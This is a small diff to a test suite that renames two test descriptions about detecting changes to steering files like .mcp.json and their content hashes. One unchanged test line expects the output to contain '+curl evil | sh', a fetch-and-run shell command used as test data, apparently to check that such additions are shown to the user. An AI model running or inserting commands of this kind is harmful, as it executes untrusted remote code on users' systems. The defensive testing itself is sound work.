@@ -56,7 +56,7 @@ describe('files that steer', () => {
   });
 });
 
-describe('a change of what steers', () => {
+describe('a change of steering files', () => {
   const own = { folder: 'plans/shop', phase: '1', variant: null };
   function repository() {
     const folder = freshPlace();
@@ -165,7 +165,7 @@ describe('a change of what steers', () => {
     expect(await shown()).toContain('+curl evil | sh');
   });
 
-  it('BIND-7 has another mark for every other content', async () => {
+  it('BIND-7 has a different mark for different content', async () => {
     const { folder, found } = repository();
     write(folder, { '.mcp.json': '{}' });
     const first = (await found())?.hash;
